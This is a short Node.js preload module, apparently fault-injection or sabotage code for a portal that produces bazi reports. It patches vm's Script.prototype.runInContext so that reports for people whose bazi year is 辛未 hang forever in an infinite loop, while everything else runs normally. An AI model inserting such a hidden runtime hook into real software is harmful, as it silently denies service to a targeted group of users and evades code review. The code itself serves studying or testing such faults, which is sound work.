// Loaded into a process of the portal by NODE_OPTIONS=--import: texts of a report for somebody born in a year 辛未 never end.
// Everything else of the process is as it was built.
import { Script } from 'node:vm';

const YEAR = '辛未 ';
const { runInContext } = Script.prototype;

/** A plan comes out of the limited work before its first text is written. */
function spoil(plan) {
  if (!plan?.bazi?.startsWith(YEAR) || typeof plan.write !== 'function') return;
  plan.write = () => {
    for (;;);
  };
}

Script.prototype.runInContext = function runSpoiled(...words) {
  const made = runInContext.apply(this, words);
  if (made instanceof Promise) made.then(spoil, () => undefined);
  else spoil(made);
  return made;
};
